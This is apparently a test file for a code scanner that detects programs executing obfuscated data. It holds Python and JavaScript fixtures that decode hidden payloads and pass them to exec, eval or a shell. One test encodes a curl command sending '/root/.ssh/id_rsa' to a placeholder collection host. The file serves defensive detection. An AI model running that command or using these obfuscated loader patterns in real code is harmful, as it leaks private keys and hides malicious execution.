import { describe, expect, it } from 'vitest';
import { rulesOf } from './rules-of.ts';

const ROW = '[116, 131, 4, 251, 90, 18, 77, 140, 9, 201, 33, 7, 64, 90, 18, 44, 250, 3]';
const TEXT = "'kJ8xQ2vLm3Zt7Rw9Yb5Nc1Hd4Gf6Ks0Pq8Ua2We3Xi5Oo7Ej9Il1Mr4Ts6Vy8Bz'";
const BYTES = `b'${'\\x91\\x02\\xf3\\xa4\\xb5\\x16\\xc7\\xd8\\xe9\\xfa\\x0b\\x1c\\x2d\\x3e\\x4f\\x50'.repeat(3)}'`;
/** A decoder whose key hangs on what nobody knows before it runs. */
const DECODES =
  "def text(row):\n    key, out = 17, ''\n    for part in row:\n        if part == os.getpid():\n            break\n        part = (part - key) % 256\n        out += chr(part)\n        key = (key * 31 + part) % 256\n    return out\n";
const BUILDS = `const row = ${ROW};\nlet out = '';\nfor (const part of row) out += String.fromCharCode(part ^ key());\n`;

const RUNS: Readonly<Record<string, readonly [file: string, code: string]>> = {
  'a list of numbers in a shell': ['a.py', `import os\n${DECODES}os.system(text(${ROW}))\n`],
  'as code': ['a.py', `import os\n${DECODES}exec(text(${ROW}))\n`],
  'as the text of a shell that is started': [
    'a.py',
    `import os, subprocess\n${DECODES}subprocess.run(['sh', '-c', text(${ROW})])\n`,
  ],
  'a text': ['a.py', `D = ${TEXT}\nexec(''.join(chr(ord(c) + key()) for c in D))\n`],
  'bytes, one after the other': [
    'a.py',
    `import os\nD = ${BYTES}\nout = bytearray()\nfor at in range(len(D)):\n    out.append(D[at] ^ (at * os.getpid() & 255))\nexec(bytes(out))\n`,
  ],
  'in JavaScript': ['a.js', `${BUILDS}eval(out);\n`],
  'by their places': [
    'a.js',
    `const row = ${ROW};\nlet out = '';\nfor (let at = 0; at < row.length; at++) out += String.fromCharCode(row[at] ^ key());\neval(out);\n`,
  ],
  'with words behind it': ['a.js', `${BUILDS}require('child_process').execSync(out + ' --now');\n`],
  'with a command before it': ['a.js', `${BUILDS}require('child_process').execSync('cd /tmp && ' + out);\n`],
  'as a program': ['a.js', `${BUILDS}require('child_process').spawn(out, []);\n`],
};

const SHOWS: Readonly<Record<string, readonly [file: string, code: string]>> = {
  'numbers that are printed': ['a.py', `import os\n${DECODES}print(text(${ROW}))\n`],
  'numbers in arguments of a program that is named': [
    'a.py',
    `import subprocess\nfor size in ${ROW}:\n    subprocess.run(['convert', 'icon.svg', '-resize', str(size), f'icon-{size}.png'])\n`,
  ],
  'a number in a command that can be read': [
    'a.js',
    `const total = ${ROW}.reduce((sum, each) => sum + each, 0);\nrequire('child_process').execSync('head -n ' + total + ' notes.txt');\n`,
  ],
  'a digest in a command': [
    'a.py',
    "import os\nDIGEST = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\nos.system(f'docker pull images.example/tool@sha256:{DIGEST}')\n",
  ],
  'an alphabet': [
    'a.js',
    "const signs = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';\nconst at = signs.indexOf(process.argv[2]);\nrequire('child_process').execFileSync('head', ['-n', String(at), 'notes.txt']);\n",
  ],
};

describe('what a program computes from data nobody can read', () => {
  for (const [title, given] of Object.entries(RUNS))
    it(`is not run unseen: ${title}`, async () => {
      expect(await rulesOf(Object.fromEntries([given]))).toContain('unread-data-runs');
    });
  for (const [title, given] of Object.entries(SHOWS))
    it(`may do other things: ${title}`, async () => {
      expect(await rulesOf(Object.fromEntries([given]))).not.toContain('unread-data-runs');
    });

  it('is known where the decoder can be followed, whatever the signs of its remainders', async () => {
    const command = 'curl -d @/root/.ssh/id_rsa https://collect.example.invalid/in';
    let key = 17;
    const row = [...command].map((sign) => {
      const code = sign.charCodeAt(0);
      const part = (code + key) % 256;
      key = (key * 31 + code) % 256;
      return part;
    });
    const code = `import os\ndef text(row):\n    key, out = 17, ''\n    for part in row:\n        part = (part - key) % 256\n        out += chr(part)\n        key = (key * 31 + part) % 256\n    return out\nos.system(text([${row.join(', ')}]))\n`;
    const rules = await rulesOf(Object.fromEntries([['a.py', code]]));
    expect(rules).toContain('secret-file-to-network');
    expect(rules).not.toContain('unread-data-runs');
  });
});
